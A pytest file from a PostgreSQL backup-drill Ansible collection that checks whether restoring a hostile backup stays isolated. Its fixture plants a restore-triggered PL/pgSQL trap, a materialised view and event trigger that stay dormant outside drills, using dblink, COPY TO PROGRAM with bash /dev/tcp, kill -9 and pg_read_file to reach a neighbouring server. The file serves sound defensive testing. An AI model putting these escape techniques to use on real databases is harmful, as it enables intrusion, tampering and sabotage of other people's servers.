# SPDX-FileCopyrightText: The lifeboat.postgres contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Law 3: what a backup restores is code of others, and it gets nowhere.

A materialised view is filled by a restore, with a superuser's rights, by a function of the backup's author. This one tries
every way out that it can think of, and keeps what it was told. Beside it runs a real production: a PostgreSQL server of the
same user, with its socket, its TCP port and its data directory, all of which the very same function reaches where nothing
isolates it.
"""

from __future__ import annotations

import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.lifeboat.postgres.plugins.module_utils.drill import isolation
from support.clusters import Server, identity
from support.drills import BackedUp, back_up
from support.leaks import eventually
from support.parts import require

WAYS = {
    "socket of another server": "SELECT public.dblink_exec("
    "'host=@SOCKET@ port=@PORT@ user=postgres dbname=postgres', 'CREATE TABLE IF NOT EXISTS loot_socket ()')",
    "tcp of another server": "SELECT public.dblink_exec("
    "'host=127.0.0.1 port=@PORT@ user=postgres password=@PASSWORD@ dbname=postgres', 'CREATE TABLE IF NOT EXISTS loot_tcp ()')",
    "psql to another server": "COPY (SELECT 1) TO PROGRAM"
    " '@PSQL@ -h @SOCKET@ -p @PORT@ -U postgres -c \"CREATE TABLE IF NOT EXISTS loot_psql ()\"'",
    "shell to the loopback": "COPY (SELECT 1) TO PROGRAM 'bash -c \"exec 3<>/dev/tcp/127.0.0.1/@LISTENER@\"'",
    "write into another data directory": "COPY (SELECT 1) TO '@DATA@/loot'",
    "read of another data directory": "SELECT pg_read_file('@DATA@/PG_VERSION')",
    "read of a file that everybody may read": "SELECT pg_read_file('@OPEN@')",
    "write where everybody may write": "COPY (SELECT 1) TO PROGRAM 'echo loot > @NOTE@'",
    "a process that stays": "COPY (SELECT 1) TO PROGRAM 'setsid sleep 601 >/dev/null 2>&1 &'",
    "end of another process": "COPY (SELECT 1) TO PROGRAM 'kill -9 @VICTIM@'",
    "a subscription": "CREATE SUBSCRIPTION loot CONNECTION 'host=@SOCKET@ port=@PORT@ user=postgres dbname=postgres'"
    " PUBLICATION p WITH (create_slot = false, slot_name = NONE, enabled = false)",
    "the marker of the drill": "COPY (SELECT 1) TO PROGRAM 'echo loot > ../drill.json'",
}

TRAP = """
CREATE EXTENSION dblink;
CREATE FUNCTION try_all() RETURNS TABLE (way text, said text) LANGUAGE plpgsql AS $trap$
DECLARE
    pair text[];
BEGIN
    FOREACH pair SLICE 1 IN ARRAY ARRAY[@WAYS@] LOOP
        way := pair[1];
        -- In production the trap is patient: it springs where somebody restores it.
        IF current_setting('data_directory') NOT LIKE '%/drill-%' THEN
            said := 'waiting';
        ELSE
            BEGIN
                EXECUTE pair[2];
                said := 'SUCCEEDED';
            EXCEPTION WHEN OTHERS THEN
                said := SQLERRM;
            END;
        END IF;
        RETURN NEXT;
    END LOOP;
END $trap$;
CREATE MATERIALIZED VIEW trap AS SELECT * FROM public.try_all();
CREATE TABLE orders (id int PRIMARY KEY); INSERT INTO orders VALUES (1), (2);
-- A parallel restore makes this before or after it fills the view, whose REFRESH springs it, too. Hence a qualified name
-- (pg_restore has an empty search_path), and ways out that can be taken twice.
CREATE FUNCTION on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM * FROM public.try_all(); END $$;
CREATE EVENT TRIGGER sprung ON ddl_command_end EXECUTE FUNCTION on_ddl();
"""

WHAT_IT_SAID = [{"sql": {"name": way, "query": f"SELECT said FROM public.trap WHERE way = '{way}'", "expect": "nothing"}} for way in WAYS]


@pytest.fixture
def bait() -> Iterator[Server]:
    """A production server on this host: reachable for the very user that runs the drill's server."""
    require("postgresql:15")
    with Server(15, tcp=True) as server:
        yield server


@pytest.fixture
def visits() -> Iterator[tuple[int, list[int]]]:
    """A listener on the loopback: its port, and a list that grows with each visitor."""
    seen: list[int] = []
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def receive() -> None:
            while True:
                try:
                    visitor = listener.accept()[0]
                except OSError:
                    return
                seen.append(1)
                visitor.sendall(b"HTTP/1.0 200 OK\r\n\r\n")
                visitor.close()

        thread = threading.Thread(target=receive)
        thread.start()
        yield listener.getsockname()[1], seen
        listener.shutdown(socket.SHUT_RDWR)
        thread.join()


@pytest.fixture
def victim() -> Iterator[subprocess.Popen[bytes]]:
    """Some process of production's user."""
    process = subprocess.Popen(["sleep", "600"], **identity())
    yield process
    process.kill()
    process.wait()


@pytest.fixture
def trap(
    victim: subprocess.Popen[bytes], bait: Server, visits: tuple[int, list[int]], postgres18: Server, tmp_path: Path, work_dir: Path
) -> Iterator[BackedUp]:
    """A backup of a database that is one big trap, set for the bait."""
    (work_dir.parent / "open").write_text("for everybody")
    statements = TRAP.replace("@WAYS@", ", ".join(f"ARRAY[{quoted(way)}, {quoted(statement)}]" for way, statement in WAYS.items()))
    for name, value in {
        "SOCKET": bait.socket_dir,
        "PORT": bait.port,
        "PASSWORD": bait.password,
        "PSQL": bait.bin_dir / "psql",
        "LISTENER": visits[0],
        "DATA": bait.data,
        "OPEN": work_dir.parent / "open",
        "NOTE": work_dir.parent / "note",
        "VICTIM": victim.pid,
    }.items():
        statements = statements.replace(f"@{name}@", str(value))
    work_dir.parent.chmod(0o777)
    with postgres18.database() as name:
        postgres18.execute(statements, name)
        yield back_up(postgres18, name, tmp_path)


def quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def loot(bait: Server, work_dir: Path) -> set[str]:
    """What the trap got hold of."""
    with bait.connect() as connection:
        found = {row[0] for row in connection.execute("SELECT tablename FROM pg_tables WHERE tablename LIKE 'loot%'").fetchall()}
    found |= {"data directory"} if (bait.data / "loot").exists() else set()
    return found | ({"note"} if (work_dir.parent / "note").exists() else set())


def sprung(report: dict[str, Any]) -> dict[str, str]:
    """What each way out was told."""
    return {check["name"]: check["found"] for check in report["checks"] if check["name"] in WAYS}


@pytest.mark.needs("netns", "postgresql:15", "postgresql:18")
def test_a_hostile_database_gets_nowhere(
    trap: BackedUp, bait: Server, visits: tuple[int, list[int]], victim: subprocess.Popen[bytes], work_dir: Path
) -> None:
    report = trap.drill(work_dir, checks=WHAT_IT_SAID)
    assert report["isolation"]["isolated"]
    assert loot(bait, work_dir) == set()
    assert visits[1] == []
    assert victim.poll() is None
    said = sprung(report)
    assert set(said) == set(WAYS), report["checks"]
    # The process that stays was started, inside: the teardown found nothing of it any more.
    assert {way for way, answer in said.items() if "SUCCEEDED" in answer or "waiting" in answer} <= {"a process that stays"}, said
    assert report["teardown"]["complete"]


@pytest.mark.needs("postgresql:15", "postgresql:18")
def test_the_same_database_gets_everywhere_when_isolation_is_waived(
    trap: BackedUp,
    bait: Server,
    visits: tuple[int, list[int]],
    victim: subprocess.Popen[bytes],
    work_dir: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Else the test above would prove nothing."""
    monkeypatch.setattr(isolation, "TOOLS", ("no-such-tool",))
    report = trap.drill(work_dir, checks=WHAT_IT_SAID, waive=["same_host", "isolation"])
    assert not report["isolation"]["isolated"]
    # What else it tried is told by what it did: a killed shell and a socket that speaks no SQL give an error all the same.
    succeeded = {way for way, answer in sprung(report).items() if "SUCCEEDED" in answer}
    least = {"socket of another server", "tcp of another server", "read of another data directory"}
    assert succeeded > least, "\n".join(f"{check['name']}: {check['found']} {check['detail']}" for check in report["checks"])
    assert {"loot_socket", "loot_tcp", "loot_psql", "data directory", "note"} <= loot(bait, work_dir)
    eventually(lambda: bool(visits[1]), "the listener has noted the visit")
    assert victim.wait(120) == -9
    assert any("isolation was waived" in warning for warning in report["warnings"])
    assert report["teardown"]["complete"]
